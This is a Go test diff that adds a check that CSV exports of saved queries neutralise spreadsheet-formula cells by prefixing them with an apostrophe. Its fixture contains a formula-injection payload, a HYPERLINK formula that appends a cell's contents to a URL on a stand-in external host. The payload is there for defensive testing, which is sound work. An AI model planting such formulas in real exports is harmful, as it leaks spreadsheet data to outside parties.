@@ -68,3 +68,17 @@ func TestExpiredPasswordRefused(t *testing.T) {
 		t.Fatalf("sign-in valid until infinity: %d, want 200", st)
 	}
 }
+
+// TestCSVFormulaCells: a saved query's CSV writes text cells that start
+// like a spreadsheet formula with a leading ', and numbers as they are.
+func TestCSVFormulaCells(t *testing.T) {
+	t.Parallel()
+	e := start(t, envOptions{})
+	a := e.signIn(t, e.A)
+	a.json("POST", "/api/queries", map[string]any{"name": "formulas", "sql": `select '=HYPERLINK("http://x.example/?"&A1)' as "=f", '+1+2' as p, '-3' as neg, '@SUM(A1)' as at, e'\tx' as tab, 'plain' as t, -4.5 as n, 1e3::float8 as f`}, 201, nil)
+	st, body, _ := a.do("GET", "/q/formulas.csv", nil, nil)
+	want := "'=f,p,neg,at,tab,t,n,f\n\"'=HYPERLINK(\"\"http://x.example/?\"\"&A1)\",'+1+2,-3,'@SUM(A1),'\tx,plain,-4.5,1000\n"
+	if st != 200 || string(body) != want {
+		t.Fatalf("CSV: %d %q, want %q", st, body, want)
+	}
+}
